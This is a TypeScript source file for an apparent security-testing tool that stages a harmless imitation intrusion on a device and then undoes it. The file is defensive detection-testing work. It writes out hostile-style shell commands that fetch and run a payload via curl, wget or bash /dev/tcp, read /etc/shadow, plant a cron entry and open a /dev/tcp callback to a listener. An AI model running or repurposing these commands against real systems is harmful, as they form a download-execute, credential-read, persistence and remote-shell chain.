// A harmless look-alike of an intrusion. It reads /etc/shadow into nothing, talks to our own listener only, and takes back what it wrote.
// No rule knows it: attack.test.ts runs it with other names, ports and interpreters.
import { existsSync, rmSync } from "node:fs";
import { mkdtemp } from "node:fs/promises";
import { join } from "node:path";
import { BadDemo } from "./bad-demo.ts";

export type Attack = {
  /** Where payload server and listener stand: an address the device can reach that is not loopback. */
  readonly host: string;
  /** The command that runs `argv` on the device. */
  readonly onDevice: (argv: readonly string[]) => readonly string[];
  /** Names end up in file names: letters, digits and hyphens. */
  readonly name: string;
  /** A POSIX shell for the payload. */
  readonly interpreter: string;
  readonly onStep: (text: string) => void;
  /** Ends it early. */
  readonly signal?: AbortSignal | undefined;
};

/** How long the whole look-alike may take, milliseconds. */
const LIMIT_MS = 20_000;
/** How long its download may take, seconds: an isolated device answers nothing. */
const REACH_S = 5;

/**
 * Runs the look-alike and undoes it. Resolves with what the listener heard.
 * Throws `BadDemo` when the device cannot be reached or a step does not do what it pretends.
 */
export async function attack(of: Attack): Promise<{ heard: string }> {
  if (!/^[A-Za-z0-9-]{1,40}$/.test(of.name))
    throw new BadDemo(`${JSON.stringify(of.name)} cannot be part of a file name`, "use letters, digits and hyphens");
  const folder = await mkdtemp(`/tmp/.${of.name}-`);
  const cron = `/etc/cron.d/${of.name}`;
  if (existsSync(cron)) throw new BadDemo(`${cron} exists already`, "choose another name, or delete it if an earlier demo left it");
  let heard = "";
  using listener = listen(of.host, (text) => {
    heard += text;
  });
  const payload = join(folder, "update");
  using server = serve(of.host, script(of, { cron, port: listener.port }));
  try {
    const url = { host: of.host, port: server.port };
    of.onStep(`download ${payload} from our own web server and run it (T1105, T1059)`);
    const intruder = [of.interpreter, "-c", `${download(url, payload)} && chmod +x ${payload} && ${payload}`];
    const child = Bun.spawn([...of.onDevice(intruder)], { stdin: "ignore", stdout: "pipe", stderr: "pipe", detached: true });
    using _late = endGroup(child.pid, of.signal);
    for await (const line of lines(child.stdout)) of.onStep(line);
    const stderr = await new Response(child.stderr).text();
    const code = await child.exited;
    if (of.signal?.aborted) throw new BadDemo("the look-alike was interrupted", "nothing: what it wrote is gone");
    if (code !== 0)
      throw new BadDemo(
        `the look-alike stopped early: ${stderr.trim().slice(0, 300) || "no reason given"}`,
        "is the device isolated? Release it first: picket release",
      );
    // The shell has ended; what it said may still be on its way.
    for (let turn = 0; !heard && turn < 40; turn++) await Bun.sleep(25);
    return { heard };
  } finally {
    rmSync(cron, { force: true });
    rmSync(folder, { recursive: true, force: true });
    of.onStep("undone: the files it wrote are gone");
  }
}

/** Ends a process group when time is up or `signal` aborts: whoever waits for a device that was cut off in between holds its output open. */
function endGroup(pid: number, signal: AbortSignal | undefined): Disposable {
  const end = () => {
    try {
      process.kill(-pid, "SIGKILL");
    } catch {
      // It has ended by itself.
    }
  };
  const late = setTimeout(end, LIMIT_MS);
  signal?.addEventListener("abort", end, { once: true });
  if (signal?.aborted) end();
  return {
    [Symbol.dispose]() {
      clearTimeout(late);
      signal?.removeEventListener("abort", end);
    },
  };
}

/** The first of curl, wget and bash that is here; all three end in the same file. */
function download(url: { host: string; port: number }, to: string): string {
  if (Bun.which("curl")) return `curl -s -m ${REACH_S} -o ${to} http://${url.host}:${url.port}/update`;
  if (Bun.which("wget")) return `wget -q -T ${REACH_S} -t 1 -O ${to} http://${url.host}:${url.port}/update`;
  return `bash -c 'exec 3<>/dev/tcp/${url.host}/${url.port}; printf "GET /update HTTP/1.0\\r\\n\\r\\n" >&3; while IFS= read -r line && [ "$line" != "$(printf "\\r")" ]; do :; done <&3; cat <&3 > ${to}'`;
}

function script(of: Attack, at: { cron: string; port: number }): string {
  return `#!${of.interpreter}
# Picket's demonstration: harmless, and undone at the end.
echo "look around: id, uname, hostname (T1033, T1082)"
id > /dev/null; uname -a > /dev/null; cat /proc/sys/kernel/hostname > /dev/null
echo "read /etc/shadow, into nothing (T1003)"
cat /etc/shadow > /dev/null
echo "add a cron entry that holds a comment only: ${at.cron} (T1053)"
echo "# made and removed by picket demo attack" > ${at.cron}
echo "a shell calls out to our own listener at ${of.host}:${at.port} (T1059, T1071)"
bash -c 'exec 3<>/dev/tcp/${of.host}/${at.port} || exit 1; echo "a shell on the device" >&3; sh -c "id -u" >&3; exec 3>&-'
`;
}

function listen(host: string, onText: (text: string) => void) {
  const server = Bun.listen({ hostname: host, port: 0, socket: { data: (_, bytes) => onText(bytes.toString()) } });
  return { port: server.port, [Symbol.dispose]: () => server.stop(true) };
}

function serve(host: string, text: string) {
  const server = Bun.serve({ hostname: host, port: 0, fetch: () => new Response(text) });
  return { port: server.port ?? 0, [Symbol.dispose]: () => void server.stop(true) };
}

async function* lines(stream: ReadableStream<Uint8Array>): AsyncGenerator<string> {
  const decoder = new TextDecoder();
  let rest = "";
  for await (const chunk of stream) {
    const parts = (rest + decoder.decode(chunk, { stream: true })).split("\n");
    rest = parts.pop() ?? "";
    yield* parts;
  }
}
